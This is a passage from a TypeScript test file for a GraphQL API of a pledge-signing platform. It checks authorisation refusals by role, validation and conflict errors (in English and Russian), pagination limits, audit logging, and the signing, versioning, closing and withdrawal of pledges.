    expect(ids(edgesOf(activeRest.data.pledge.signatures))).toEqual([signatureGid(sig.fresh.id)]);
    expect(activeRest.data.pledge.signatures.pageInfo.hasNextPage).toBe(false);
  });

  it('a signature of a pledge without a renewal period has no due date and never lapses', async () => {
    const forever = await publishedPledge({ renewalMonths: null });
    const signature = await signPledge(at(ctxs.customsSignatory, monthsAgo(120)), domainSignInput(forever.id, customs));
    const res = await gql(
      `query ($id: ID!) { node(id: $id) { ... on PledgeSignature { status renewalDueAt pledge { renewalMonths lapsed: signatureCount(status: LAPSED) } } } }`,
      {
        id: signatureGid(signature.id),
      },
    );
    expect(res.errors).toBeUndefined();
    expect(res.data.node).toEqual({ status: 'ACTIVE', renewalDueAt: null, pledge: { renewalMonths: null, lapsed: 0 } });
  });

  it("lists an organisation's pledge signatures, filtered by status", async () => {
    const ORG = `
      query ($slug: String!, $status: SignatureStatus) {
        organization(slug: $slug) { pledgeSignatures(first: 10, status: $status) { edges { node { id status pledge { id } } } } }
      }`;
    const of = async (org: Org, status?: string) => {
      const res = await gql(ORG, { slug: org.slug, status });
      expect(res.errors).toBeUndefined();
      return edgesOf(res.data.organization.pledgeSignatures);
    };
    expect(await of(lapsedOrg)).toEqual([
      { id: signatureGid(sig.lapsed.id), status: 'LAPSED', pledge: { id: pledgeGid(pledge.id) } },
      { id: signatureGid(otherSignature.id), status: 'ACTIVE', pledge: { id: pledgeGid(otherPledge.id) } },
    ]);
    expect(ids(await of(lapsedOrg, 'LAPSED'))).toEqual([signatureGid(sig.lapsed.id)]);
    expect(ids(await of(lapsedOrg, 'ACTIVE'))).toEqual([signatureGid(otherSignature.id)]);
    expect(await of(lapsedOrg, 'WITHDRAWN')).toEqual([]);
    expect(ids(await of(withdrawnOrg, 'WITHDRAWN'))).toEqual([signatureGid(sig.withdrawn.id)]);
    expect(await of(withdrawnOrg, 'ACTIVE')).toEqual([]);
    expect(ids(await of(renewedOrg, 'ACTIVE'))).toEqual([signatureGid(sig.renewed.id)]);
  });
});

describe('unverified organisations: listed, marked, counted apart', () => {
  it('an organisation unverified after signing stays in the register, marked, and is counted in unverifiedSignatureCount only', async () => {
    const pledge = await publishedPledge({ renewalMonths: 12 });
    const verifiedOrg = await makeOrganization(t.db, { kind: 'CUSTOMS_ADMINISTRATION', name: 'Khorgos Customs Post' });
    const doubtfulOrg = await makeOrganization(t.db, { kind: 'CUSTOMS_ADMINISTRATION', name: 'Khorgos Customs Post (copy)' });
    for (const org of [verifiedOrg, doubtfulOrg]) {
      const signer = await ctxFor(t.db, (await makeMember(t.db, org.id, 'SIGNATORY')).id);
      await signPledge(signer, domainSignInput(pledge.id, org));
    }
    await setOrganizationVerified(ctxs.platformAdmin, { organizationId: doubtfulOrg.id, verified: false });

    const res = await gql(
      `query ($slug: String!) { pledge(slug: $slug) {
        signatureCount active: signatureCount(status: ACTIVE) unverifiedSignatureCount
        signatures(first: 10) { totalCount edges { node { status organization { name verified } } } }
      } }`,
      { slug: pledge.slug },
    );
    expect(res.errors).toBeUndefined();
    expect(res.data.pledge).toEqual({
      signatureCount: 1,
      active: 1,
      unverifiedSignatureCount: 1,
      signatures: {
        totalCount: 2,
        edges: [
          { node: { status: 'ACTIVE', organization: { name: verifiedOrg.name, verified: true } } },
          { node: { status: 'ACTIVE', organization: { name: doubtfulOrg.name, verified: false } } },
        ],
      },
    });
  });
});

describe('Pledge.viewerCanSign: the rule signPledge applies, asked beforehand', () => {
  const CAN_SIGN = `query ($slug: String!, $org: ID!) { pledge(slug: $slug) { viewerCanSign(organizationId: $org) { ok resign code reason } } }`;
  const canSign = async (who: Who, pledge: { slug: string }, org: { id: string }, locale?: string) => {
    const res = await gql(CAN_SIGN, { slug: pledge.slug, org: orgGid(org.id) }, as(who, locale));
    expect(res.errors).toBeUndefined();
    return res.data.pledge.viewerCanSign;
  };
  const no = (code: string, key: string, locale: Locale = 'en') => ({ ok: false, resign: false, code, reason: translate(locale, key) });

  it('says yes to a signatory, then "already signed" once signed, and "re-sign" after a new version', async () => {
    const pledge = await publishedPledge({ audience: 'CUSTOMS' });
    expect(await canSign('customsSignatory', pledge, customs)).toEqual({ ok: true, resign: false, code: null, reason: null });
    expect(await canSign('customsAdmin', pledge, customs)).toEqual({ ok: true, resign: false, code: null, reason: null });
    await signPledge(ctxs.customsSignatory, domainSignInput(pledge.id, customs));
    expect(await canSign('customsSignatory', pledge, customs)).toEqual(no('CONFLICT', 'errors.alreadySigned'));
    await publishPledgeVersion(ctxs.platformAdmin, {
      pledgeId: pledge.id,
      title: 'Zero tolerance, second edition',
      body: PLEDGE_BODY,
      factors: ['TRANSPARENCY'],
    });
    expect(await canSign('customsSignatory', pledge, customs)).toEqual({ ok: true, resign: true, code: null, reason: null });
  });

  it('says why not: not signed in, not a signatory, wrong audience, closed, unverified, unknown organisation', async () => {
    const pledge = await publishedPledge({ audience: 'CUSTOMS' });
    expect(await canSign('anonymous', pledge, customs)).toEqual(no('NOT_AUTHENTICATED', 'errors.notAuthenticated'));
    for (const who of ['customsMember', 'customsLiaison', 'platformAdmin', 'businessSignatory'] as const) {
      expect(await canSign(who, pledge, customs), who).toEqual(no('FORBIDDEN', 'errors.forbidden'));
    }
    expect(await canSign('businessSignatory', pledge, business)).toEqual(no('VALIDATION', 'errors.pledgeAudience.CUSTOMS'));
    expect(await canSign('businessSignatory', pledge, business, 'ru')).toEqual(no('VALIDATION', 'errors.pledgeAudience.CUSTOMS', 'ru'));

    const unverified = await makeOrganization(t.db, { kind: 'CUSTOMS_ADMINISTRATION', name: 'Newly Registered Customs' });
    await setOrganizationVerified(ctxs.platformAdmin, { organizationId: unverified.id, verified: false });
    const unverifiedSignatory = await makeMember(t.db, unverified.id, 'SIGNATORY');
    const res = await gql(CAN_SIGN, { slug: pledge.slug, org: orgGid(unverified.id) }, { token: await signInAs(t, unverifiedSignatory) });
    expect(res.data.pledge.viewerCanSign).toEqual(no('FORBIDDEN', 'errors.organizationUnverified'));

    expect(await canSign('customsSignatory', pledge, { id: 'no-such-organisation' })).toEqual(no('NOT_FOUND', 'errors.notFound'));
    await closePledge(ctxs.platformAdmin, { pledgeId: pledge.id });
    expect(await canSign('customsSignatory', pledge, customs)).toEqual(no('CONFLICT', 'errors.pledgeClosed'));
  });

  it('is computed for a whole list of pledges at once', async () => {
    const res = await gql(
      `query ($org: ID!) { pledges(first: 100) { edges { node { status viewerCanSign(organizationId: $org) { ok code } } } } }`,
      { org: orgGid(customs.id) },
      as('customsSignatory'),
    );
    expect(res.errors).toBeUndefined();
    for (const { node } of res.data.pledges.edges) if (node.status === 'CLOSED') expect(node.viewerCanSign).toEqual({ ok: false, code: 'CONFLICT' });
  });

  it('refuses an ID of another type with a clear error', async () => {
    const pledge = await publishedPledge();
    const res = await gql(CAN_SIGN, { slug: pledge.slug, org: pledgeGid(pledge.id) }, as('customsSignatory'));
    expect(res.errors?.[0].message).toMatch(/is not of type: Organization/);
  });
});

describe('limits: page sizes and IDs', () => {
  beforeAll(async () => {
    await publishedPledge();
  });

  const CONNECTIONS: [string, string][] = [
    ['pledges', `query ($n: Int) { pledges(first: $n) { edges { cursor } } }`],
    ['pledges (last)', `query ($n: Int) { pledges(last: $n) { edges { cursor } } }`],
    ['organizations', `query ($n: Int) { organizations(first: $n) { edges { cursor } } }`],
    ['Pledge.signatures', `query ($n: Int) { pledges(first: 1) { edges { node { signatures(first: $n) { edges { cursor } } } } } }`],
    ['Organization.members', `query ($n: Int) { organizations(first: 1) { edges { node { members(first: $n) { edges { cursor } } } } } }`],
    ['Organization.pledgeSignatures', `query ($n: Int) { organizations(first: 1) { edges { node { pledgeSignatures(first: $n) { edges { cursor } } } } } }`],
  ];

  it.each(CONNECTIONS)('%s: a page of more than 100, or of less than 1, is refused with a clear error', async (_name, query) => {
    // (Far larger sizes are refused earlier still, by the cost limit: see graphql-limits.test.ts.)
    for (const n of [101, 1000, 0]) {
      const res = await gql(query, { n }, as('platformAdmin'));
      expect(res.errors?.[0].message, `n = ${n}`).toMatch(/^(first|last) must be between 1 and 100$/);
    }
    const negative = await gql(query, { n: -1 }, as('platformAdmin'));
    expect(negative.errors?.[0].message).toMatch(/^(Argument "(first|last)" must be a non-negative integer|(first|last) must be between 1 and 100)$/);
    const ok = await gql(query, { n: 100 }, as('platformAdmin'));
    expect(ok.errors).toBeUndefined();
  });

  it('a page is 20 items when no size is given', async () => {
    while ((await t.db.organization.count()) < 25) await makeOrganization(t.db);
    const res = await gql(`{ organizations { edges { cursor } pageInfo { hasNextPage } } }`);
    expect(res.data.organizations.edges).toHaveLength(20);
    expect(res.data.organizations.pageInfo.hasNextPage).toBe(true);
  });

  it('a malformed global ID is a clear error, not an unexpected one', async () => {
    const res = await gql(PUBLISH, { id: 'not a global id' }, as('platformAdmin'));
    expect(res.errors?.[0].message).toMatch(/Invalid global ID/);
  });
});

// ---------------------------------------------------------------------------------------------------------------
// Mutations

/** Managing pledges: refused for these callers (the owner is the partner). */
const MANAGE_REFUSED: { who: Who; typename: ErrorType }[] = [
  { who: 'anonymous', typename: 'NotAuthenticatedError' },
  { who: 'partnerMember', typename: 'ForbiddenError' },
  { who: 'partnerLiaison', typename: 'ForbiddenError' },
  { who: 'otherPartnerSignatory', typename: 'ForbiddenError' },
  { who: 'customsSignatory', typename: 'ForbiddenError' },
  { who: 'outsider', typename: 'ForbiddenError' },
];

/** Signing, withdrawing and renewing for the customs administration: refused for these callers. */
const SIGN_REFUSED: { who: Who; typename: ErrorType }[] = [
  { who: 'anonymous', typename: 'NotAuthenticatedError' },
  { who: 'customsMember', typename: 'ForbiddenError' },
  { who: 'customsLiaison', typename: 'ForbiddenError' },
  { who: 'businessSignatory', typename: 'ForbiddenError' },
  { who: 'platformAdmin', typename: 'ForbiddenError' },
  { who: 'outsider', typename: 'ForbiddenError' },
];

describe('createPledgeDraft', () => {
  it.each<[Who, 'gid' | 'none']>([
    ['partnerAdmin', 'gid'],
    ['partnerSignatory', 'gid'],
    ['platformAdmin', 'none'],
  ])('lets %s draft a pledge (owner given as %s)', async (who, owner) => {
    const title = `Publish waiting times at every post (${who})`;
    const input = {
      title,
      body: PLEDGE_BODY,
      factors: ['TRANSPARENCY', 'AUTOMATION', 'TRANSPARENCY'],
      audience: 'CUSTOMS',
      renewalMonths: 6,
      ...(owner === 'gid' ? { ownerOrganizationId: orgGid(partner.id) } : {}),
    };
    const before = await writeCounts(t.db);
    const data = successOf(await gql(CREATE, { input }, as(who)), 'createPledgeDraft');
    const stored = await t.db.pledge.findFirstOrThrow({ where: { title } });
    const ownerId = owner === 'none' ? null : partner.id;
    expect(data).toEqual({
      id: pledgeGid(stored.id),
      slug: stored.slug,
      status: 'DRAFT',
      title,
      body: PLEDGE_BODY,
      factors: ['TRANSPARENCY', 'AUTOMATION'],
      audience: 'CUSTOMS',
      renewalMonths: 6,
      publishedAt: null,
      closedAt: null,
      currentVersionNumber: 0,
      ownerOrganization: ownerId ? { id: orgGid(ownerId) } : null,
      versions: [],
    });
    expect(stored.slug).toMatch(/^publish-waiting-times-at-every-post/);
    expect(stored).toMatchObject({
      status: 'DRAFT',
      ownerOrganizationId: ownerId,
      createdById: users[who as SignedIn].id,
      renewalMonths: 6,
      currentVersion: 0,
    });
    expect(await writeCounts(t.db)).toEqual({ ...before, pledges: before.pledges + 1, audits: before.audits + 1 });
    const audit = await t.db.auditEvent.findFirstOrThrow({ where: { subjectId: stored.id } });
    expect(audit).toMatchObject({ action: 'pledge.drafted', subjectType: 'Pledge', actorId: users[who as SignedIn].id, organizationId: ownerId });
  });

  it.each(MANAGE_REFUSED)('refuses $who drafting for the partner with $typename and stores nothing', async ({ who, typename }) => {
    await expectRefused(who, 'createPledgeDraft', CREATE, { input: { ...draftInput(), ownerOrganizationId: orgGid(partner.id) } }, typename);
  });

  it.each<Who>(['partnerAdmin', 'customsAdmin', 'outsider'])('refuses %s drafting on the platform’s behalf (no owner)', async (who) => {
    await expectRefused(who, 'createPledgeDraft', CREATE, { input: draftInput() }, 'ForbiddenError');
  });

  it('is a ValidationError for invalid input, in Russian with Accept-Language: ru', async () => {
    const input = { ...draftInput(), title: 'Hi', factors: [], renewalMonths: 61, ownerOrganizationId: orgGid(partner.id) };
    const en = await expectRefused('partnerAdmin', 'createPledgeDraft', CREATE, { input }, 'ValidationError');
    expect(Object.fromEntries(en.fieldErrors.map((f: { path: string; messages: string[] }) => [f.path, f.messages]))).toEqual({
      title: ['At least 5 characters.'],
      factors: [translate('en', 'errors.chooseFactors')],
      renewalMonths: [translate('en', 'errors.renewalMonths')],
    });
    const ru = await expectRefused('partnerAdmin', 'createPledgeDraft', CREATE, { input }, 'ValidationError', { locale: 'ru' });
    expect(ru.message).toMatch(/[а-яё]/i);
    expect(ru.fieldErrors.find((f: { path: string }) => f.path === 'title').messages).toEqual(['Не короче 5 символов.']);
  });

  it('the owner is a global ID of an Organization, decoded by the schema: a raw id or an ID of another type is refused and nothing is stored', async () => {
    for (const ownerOrganizationId of [partner.id, globalId('User', users.partnerAdmin.id)]) {
      const before = await dbState();
      const res = await gql(CREATE, { input: { ...draftInput(), ownerOrganizationId } }, as('partnerAdmin'));
      expect(res.errors?.[0].message).toMatch(/global ID|is not of type: Organization/);
      expect(await dbState()).toEqual(before);
    }
  });

  it('only a partner owns a pledge: a platform administrator naming a customs administration gets a ValidationError', async () => {
    await expectRefused(
      'platformAdmin',
      'createPledgeDraft',
      CREATE,
      { input: { ...draftInput(), ownerOrganizationId: orgGid(customs.id) } },
      'ValidationError',
      {
        fieldErrors: { ownerOrganizationId: ['errors.ownerMustBePartner'] },
      },
    );
  });
});

describe('publishPledge', () => {
  it.each<Who>(['partnerSignatory', 'partnerAdmin', 'platformAdmin'])("lets %s publish the partner's draft as version 1", async (who) => {
    const draft = await partnerDraft({ factors: ['CODE_OF_CONDUCT'] });
    const before = await writeCounts(t.db);
    const data = successOf(await gql(PUBLISH, { id: pledgeGid(draft.id) }, as(who)), 'publishPledge');
    const stored = await t.db.pledge.findUniqueOrThrow({ where: { id: draft.id } });
    expect(stored).toMatchObject({ status: 'PUBLISHED', currentVersion: 1 });
    expect(stored.publishedAt).toBeInstanceOf(Date);
    expect(data).toMatchObject({
      id: pledgeGid(draft.id),
      status: 'PUBLISHED',
      currentVersionNumber: 1,
      publishedAt: iso(stored.publishedAt),
      versions: [{ number: 1, title: draft.title, factors: ['CODE_OF_CONDUCT'], changeNote: null }],
    });
    const version = await t.db.pledgeVersion.findFirstOrThrow({ where: { pledgeId: draft.id } });
    expect(version).toMatchObject({ number: 1, title: draft.title, body: draft.body, publishedById: users[who as SignedIn].id });
    expect(await writeCounts(t.db)).toEqual({ ...before, versions: before.versions + 1, audits: before.audits + 1 });
    const audit = await t.db.auditEvent.findFirstOrThrow({ where: { subjectId: draft.id, action: 'pledge.published' } });
    expect(audit.actorId).toBe(users[who as SignedIn].id);
  });

  // A draft is visible only to those who may manage it: to everyone else it does not exist (NotFoundError).
  it.each(MANAGE_REFUSED)('refuses $who (the draft is hidden from them: NotFoundError) and stores nothing', async ({ who }) => {
    const draft = await partnerDraft();
    await expectRefused(who, 'publishPledge', PUBLISH, { id: pledgeGid(draft.id) }, 'NotFoundError');
    expect((await t.db.pledge.findUniqueOrThrow({ where: { id: draft.id } })).status).toBe('DRAFT');
  });

  it('is a ConflictError when already published, and NotFoundError for an unknown pledge', async () => {
    const pledge = await partnerPledge();
    await expectRefused('partnerAdmin', 'publishPledge', PUBLISH, { id: pledgeGid(pledge.id) }, 'ConflictError', { key: 'errors.pledgeAlreadyPublished' });
    await expectRefused('partnerAdmin', 'publishPledge', PUBLISH, { id: pledgeGid('no-such-pledge') }, 'NotFoundError');
  });
});

describe('publishPledgeVersion', () => {
  const nextVersion = (pledgeId: string, extra: Record<string, unknown> = {}) => ({
    input: {
      pledgeId: pledgeGid(pledgeId),
      title: 'Zero tolerance, version two',
      body: `${PLEDGE_BODY}\n\nVersion two.`,
      factors: ['AUTOMATION'],
      changeNote: 'Adds automation',
      ...extra,
    },
  });

  it.each<Who>(['partnerAdmin', 'partnerSignatory', 'platformAdmin'])('lets %s publish version 2', async (who) => {
    const pledge = await partnerPledge();
    const before = await writeCounts(t.db);
    const data = successOf(await gql(PUBLISH_VERSION, nextVersion(pledge.id), as(who)), 'publishPledgeVersion');
    expect(data).toMatchObject({
      id: pledgeGid(pledge.id),
      status: 'PUBLISHED',
      title: 'Zero tolerance, version two',
      body: `${PLEDGE_BODY}\n\nVersion two.`,
      factors: ['AUTOMATION'],
      currentVersionNumber: 2,
      versions: [
        { number: 1, title: pledge.title, factors: pledge.factors, changeNote: null },
        { number: 2, title: 'Zero tolerance, version two', factors: ['AUTOMATION'], changeNote: 'Adds automation' },
      ],
    });
    expect(await t.db.pledge.findUniqueOrThrow({ where: { id: pledge.id } })).toMatchObject({ currentVersion: 2, title: 'Zero tolerance, version two' });
    const v2 = await t.db.pledgeVersion.findUniqueOrThrow({ where: { pledgeId_number: { pledgeId: pledge.id, number: 2 } } });
    expect(v2).toMatchObject({ changeNote: 'Adds automation', publishedById: users[who as SignedIn].id });
    expect(await writeCounts(t.db)).toEqual({ ...before, versions: before.versions + 1, audits: before.audits + 1 });
    expect((await t.db.auditEvent.findFirstOrThrow({ where: { subjectId: pledge.id, action: 'pledge.version_published' } })).actorId).toBe(
      users[who as SignedIn].id,
    );
  });

  it.each(MANAGE_REFUSED)('refuses $who with $typename and stores nothing', async ({ who, typename }) => {
    const pledge = await partnerPledge();
    await expectRefused(who, 'publishPledgeVersion', PUBLISH_VERSION, nextVersion(pledge.id), typename);
  });

  it('is a ConflictError for a draft or a closed pledge, and a ValidationError for no key factor', async () => {
    const draft = await partnerDraft();
    await expectRefused('partnerAdmin', 'publishPledgeVersion', PUBLISH_VERSION, nextVersion(draft.id), 'ConflictError', { key: 'errors.pledgeNotPublished' });
    const closed = await partnerPledge();
    await closePledge(ctxs.partnerAdmin, { pledgeId: closed.id });
    await expectRefused('partnerAdmin', 'publishPledgeVersion', PUBLISH_VERSION, nextVersion(closed.id), 'ConflictError', { key: 'errors.pledgeClosed' });
    const pledge = await partnerPledge();
    await expectRefused('partnerAdmin', 'publishPledgeVersion', PUBLISH_VERSION, nextVersion(pledge.id, { factors: [] }), 'ValidationError', {
      fieldErrors: { factors: ['errors.chooseFactors'] },
    });
  });
});

describe('closePledge', () => {
  it.each<Who>(['partnerSignatory', 'partnerAdmin', 'platformAdmin'])('lets %s close a published pledge', async (who) => {
    const pledge = await partnerPledge();
    const before = await writeCounts(t.db);
    const data = successOf(await gql(CLOSE, { id: pledgeGid(pledge.id) }, as(who)), 'closePledge');
    const stored = await t.db.pledge.findUniqueOrThrow({ where: { id: pledge.id } });
    expect(stored.status).toBe('CLOSED');
    expect(stored.closedAt).toBeInstanceOf(Date);
    expect(data).toMatchObject({ id: pledgeGid(pledge.id), status: 'CLOSED', closedAt: iso(stored.closedAt), currentVersionNumber: 1 });
    expect(await writeCounts(t.db)).toEqual({ ...before, audits: before.audits + 1 });
    expect((await t.db.auditEvent.findFirstOrThrow({ where: { subjectId: pledge.id, action: 'pledge.closed' } })).actorId).toBe(users[who as SignedIn].id);
  });

  it.each(MANAGE_REFUSED)('refuses $who with $typename and stores nothing', async ({ who, typename }) => {
    const pledge = await partnerPledge();
    await expectRefused(who, 'closePledge', CLOSE, { id: pledgeGid(pledge.id) }, typename);
  });

  it('is a ConflictError for a draft and for a pledge already closed', async () => {
    const draft = await partnerDraft();
    await expectRefused('partnerAdmin', 'closePledge', CLOSE, { id: pledgeGid(draft.id) }, 'ConflictError', { key: 'errors.pledgeNotPublished' });
    const pledge = await partnerPledge();
    await closePledge(ctxs.partnerAdmin, { pledgeId: pledge.id });
    await expectRefused('partnerAdmin', 'closePledge', CLOSE, { id: pledgeGid(pledge.id) }, 'ConflictError', { key: 'errors.pledgeClosed' });
  });
});

describe('signPledge', () => {
  it.each<Who>(['customsSignatory', 'customsAdmin'])('lets %s sign for the customs administration', async (who) => {
    const pledge = await publishedPledge({ renewalMonths: 12 });
    const before = await writeCounts(t.db);
    const res = await gql(SIGN, { input: signInputFor(pledge.id, customs, { statement: '  We sign with pride.  ' }) }, as(who));
    const data = successOf(res, 'signPledge');
    const stored = await t.db.pledgeSignature.findFirstOrThrow({ where: { pledgeId: pledge.id }, include: { version: true } });
    expect(stored).toMatchObject({
      organizationId: customs.id,
      signedById: users[who as SignedIn].id,
      statement: 'We sign with pride.',
      withdrawnAt: null,
      supersededAt: null,
    });
    expect(stored.version.number).toBe(1);
    expect(data).toEqual({
      id: signatureGid(stored.id),
      status: 'ACTIVE',
      statement: 'We sign with pride.',
      signedAt: iso(stored.signedAt),
      lastRenewedAt: iso(stored.signedAt),
      renewalDueAt: iso(addMonthsUtc(stored.signedAt, 12)),
      superseded: false,
      withdrawnAt: null,
      withdrawalReason: null,
      organization: { id: orgGid(customs.id) },
      pledge: { id: pledgeGid(pledge.id) },
      version: { number: 1 },
      progressReports: [],
    });
    expect(await writeCounts(t.db)).toEqual({ ...before, signatures: before.signatures + 1, audits: before.audits + 1 });
    const audit = await t.db.auditEvent.findFirstOrThrow({ where: { subjectId: pledge.id, action: 'pledge.signed' } });
    expect(audit).toMatchObject({ actorId: users[who as SignedIn].id, organizationId: customs.id });

    // The pledge and the organisation now list it.
    const listed = await gql(`query ($slug: String!) { pledge(slug: $slug) { signatureCount signatures(first: 5) { edges { node { id } } } } }`, {
      slug: pledge.slug,
    });
    expect(listed.data.pledge).toEqual({ signatureCount: 1, signatures: { edges: [{ node: { id: signatureGid(stored.id) } }] } });
  });

  it('accepts the Russian confirmation sentence', async () => {
    const pledge = await publishedPledge();
    const data = successOf(
      await gql(SIGN, { input: signInputFor(pledge.id, customs, { confirmation: confirmationPhrases(customs.name).ru }) }, as('customsSignatory', 'ru')),
      'signPledge',
    );
    expect(data).toMatchObject({ status: 'ACTIVE', statement: null, organization: { id: orgGid(customs.id) } });
  });

  it.each(SIGN_REFUSED)('refuses $who with $typename and stores nothing', async ({ who, typename }) => {
    const pledge = await publishedPledge();
    await expectRefused(who, 'signPledge', SIGN, { input: signInputFor(pledge.id, customs) }, typename);
  });

  it('accepts the sentence with the organisation’s Russian name, as the Russian page shows it', async () => {
    const pledge = await publishedPledge();
    const translated = await t.db.organization.update({ where: { id: customs.id }, data: { translations: { ru: { name: 'Каспийская таможенная служба' } } } });
    try {
      const confirmation = confirmationPhrases(translated).ru;
      expect(confirmation).toBe('Я уполномочен подписать от имени Каспийская таможенная служба');
      const data = successOf(await gql(SIGN, { input: signInputFor(pledge.id, customs, { confirmation }) }, as('customsSignatory', 'ru')), 'signPledge');
      expect(data).toMatchObject({ status: 'ACTIVE', organization: { id: orgGid(customs.id) } });
    } finally {
      await t.db.organization.update({ where: { id: customs.id }, data: { translations: {} } });
    }
  });

  it('signs only the version read: a version published meanwhile is a ConflictError (in Russian too) and stores nothing', async () => {
    const pledge = await publishedPledge();
    await publishPledgeVersion(ctxs.platformAdmin, { pledgeId: pledge.id, title: 'Version two of it', body: PLEDGE_BODY, factors: ['AUTOMATION'] });
    const input = signInputFor(pledge.id, customs, { versionNumber: 1 });
    const en = await expectRefused('customsSignatory', 'signPledge', SIGN, { input }, 'ConflictError', { key: 'errors.pledgeVersionChanged' });
    expect(en.message).toBe('A new version was published while you were reading: read it and sign again.');
    const ru = await expectRefused('customsSignatory', 'signPledge', SIGN, { input }, 'ConflictError', { key: 'errors.pledgeVersionChanged', locale: 'ru' });
    expect(ru.message).toMatch(/новая версия/);
    await expectRefused('customsSignatory', 'signPledge', SIGN, { input: { ...input, versionNumber: 0 } }, 'ValidationError', {
      fieldErrors: { versionNumber: ['errors.invalid'] },
    });
    const data = successOf(await gql(SIGN, { input: { ...input, versionNumber: 2 } }, as('customsSignatory')), 'signPledge');
    expect(data).toMatchObject({ status: 'ACTIVE', version: { number: 2 } });
  });

  it('refuses a signatory of the business association signing on its behalf for the customs administration, even with its own name typed', async () => {
    const pledge = await publishedPledge();
    await expectRefused(
      'businessSignatory',
      'signPledge',
      SIGN,
      { input: signInputFor(pledge.id, customs, { confirmation: confirmationFor(business) }) },
      'ForbiddenError',
    );
  });

  describe('bad input: a typed error, and nothing written', () => {
    it('signing the same version twice is a ConflictError', async () => {
      const pledge = await publishedPledge();
      successOf(await gql(SIGN, { input: signInputFor(pledge.id, customs) }, as('customsSignatory')), 'signPledge');
      await expectRefused('customsSignatory', 'signPledge', SIGN, { input: signInputFor(pledge.id, customs) }, 'ConflictError', {
        key: 'errors.alreadySigned',
      });
      // Another signatory of the same organisation: it has signed already.
      await expectRefused('customsAdmin', 'signPledge', SIGN, { input: signInputFor(pledge.id, customs, { statement: 'Again' }) }, 'ConflictError', {
        key: 'errors.alreadySigned',
      });
      expect(await t.db.pledgeSignature.count({ where: { pledgeId: pledge.id } })).toBe(1);
    });

    it('signing a closed pledge is a ConflictError; an unknown pledge, and a draft (hidden from signatories), are NotFoundError', async () => {
      const draft = await createPledgeDraft(ctxs.platformAdmin, draftInput());
      await expectRefused('customsSignatory', 'signPledge', SIGN, { input: signInputFor(draft.id, customs) }, 'NotFoundError');
      const closed = await publishedPledge();
      await closePledge(ctxs.platformAdmin, { pledgeId: closed.id });
      await expectRefused('customsSignatory', 'signPledge', SIGN, { input: signInputFor(closed.id, customs) }, 'ConflictError', { key: 'errors.pledgeClosed' });
      await expectRefused('customsSignatory', 'signPledge', SIGN, { input: signInputFor('no-such-pledge', customs) }, 'NotFoundError');
    });

    it.each([
      ['a partner, any pledge', 'BOTH', 'partner'],
      ['a business association, a customs-only pledge', 'CUSTOMS', 'business'],
      ['a customs administration, a business-only pledge', 'BUSINESS', 'customs'],
    ] as const)('an excluded kind of organisation (%s) is a ValidationError on organizationId', async (_label, audience, signer) => {
      const pledge = await publishedPledge({ audience });
      const [org, who]: [Org, Who] =
        signer === 'partner' ? [partner, 'partnerSignatory'] : signer === 'business' ? [business, 'businessSignatory'] : [customs, 'customsSignatory'];
      await expectRefused(who, 'signPledge', SIGN, { input: signInputFor(pledge.id, org) }, 'ValidationError', {
        fieldErrors: { organizationId: [`errors.pledgeAudience.${audience}`] },
      });
    });

    it.each(['yes', 'Caspian Customs Service', 'I am authorised to sign for Steppe Traders Association', '   '])(
      'a wrong confirmation (%j) is a ValidationError on confirmation',
      async (confirmation) => {
        const pledge = await publishedPledge();
        await expectRefused('customsSignatory', 'signPledge', SIGN, { input: signInputFor(pledge.id, customs, { confirmation }) }, 'ValidationError', {
          fieldErrors: { confirmation: ['errors.confirmation'] },
        });
      },
    );

    it('says so in Russian with Accept-Language: ru', async () => {
      const pledge = await publishedPledge({ audience: 'BUSINESS' });
      const wrong = await expectRefused(
        'businessSignatory',
        'signPledge',
        SIGN,
        { input: signInputFor(pledge.id, business, { confirmation: 'да' }) },
        'ValidationError',
        {
          locale: 'ru',
          fieldErrors: { confirmation: ['errors.confirmation'] },
        },
      );
      expect(wrong.message).toBe(translate('ru', 'errors.validation'));
      expect(wrong.fieldErrors[0].messages[0]).toMatch(/[а-яё]/i);
      const kind = await expectRefused('customsSignatory', 'signPledge', SIGN, { input: signInputFor(pledge.id, customs) }, 'ValidationError', {
        locale: 'ru',
        fieldErrors: { organizationId: ['errors.pledgeAudience.BUSINESS'] },
      });
      expect(kind.fieldErrors[0].messages[0]).toMatch(/[а-яё]/i);
      successOf(await gql(SIGN, { input: signInputFor(pledge.id, business) }, as('businessSignatory')), 'signPledge');
      const twice = await expectRefused('businessSignatory', 'signPledge', SIGN, { input: signInputFor(pledge.id, business) }, 'ConflictError', {
        locale: 'ru',
        key: 'errors.alreadySigned',
      });
      expect(twice.message).toMatch(/[а-яё]/i);
    });
  });
});

describe('withdrawPledgeSignature', () => {
  const REASON = 'Our board decided to leave the programme.';
  const customsSignature = async () => {
    const pledge = await publishedPledge();
    return signPledge(ctxs.customsSignatory, domainSignInput(pledge.id, customs));
  };

  it.each<Who>(['customsSignatory', 'customsAdmin'])('lets %s withdraw the customs administration’s signature, with a reason', async (who) => {
    const signature = await customsSignature();
    const before = await writeCounts(t.db);
    const data = successOf(await gql(WITHDRAW, { input: { signatureId: signatureGid(signature.id), reason: REASON } }, as(who)), 'withdrawPledgeSignature');
    const stored = await t.db.pledgeSignature.findUniqueOrThrow({ where: { id: signature.id } });
    expect(stored).toMatchObject({ withdrawalReason: REASON, withdrawnById: users[who as SignedIn].id, supersededAt: null });
    expect(stored.withdrawnAt).toBeInstanceOf(Date);
    expect(data).toMatchObject({ id: signatureGid(signature.id), status: 'WITHDRAWN', withdrawnAt: iso(stored.withdrawnAt), withdrawalReason: REASON });
    expect(await writeCounts(t.db)).toEqual({ ...before, audits: before.audits + 1 });
    const audit = await t.db.auditEvent.findFirstOrThrow({ where: { subjectId: signature.pledgeId, action: 'pledge.withdrawn' } });
    expect(audit).toMatchObject({ actorId: users[who as SignedIn].id, organizationId: customs.id });

    // Withdrawing again is a conflict.
    await expectRefused(
      who,
      'withdrawPledgeSignature',
      WITHDRAW,
      { input: { signatureId: signatureGid(signature.id), reason: 'Withdrawing once more.' } },
      'ConflictError',
      {
        key: 'errors.signatureWithdrawn',
      },
    );
  });

  it.each(SIGN_REFUSED)('refuses $who with $typename and stores nothing', async ({ who, typename }) => {
    const signature = await customsSignature();
    await expectRefused(who, 'withdrawPledgeSignature', WITHDRAW, { input: { signatureId: signatureGid(signature.id), reason: REASON } }, typename);
  });

  it.each(['', '   ', 'Too short', '  123456789  '])('a missing or short reason (%j) is a ValidationError on reason', async (reason) => {
    const signature = await customsSignature();
    await expectRefused(
      'customsSignatory',
      'withdrawPledgeSignature',
      WITHDRAW,
      { input: { signatureId: signatureGid(signature.id), reason } },
      'ValidationError',
      {
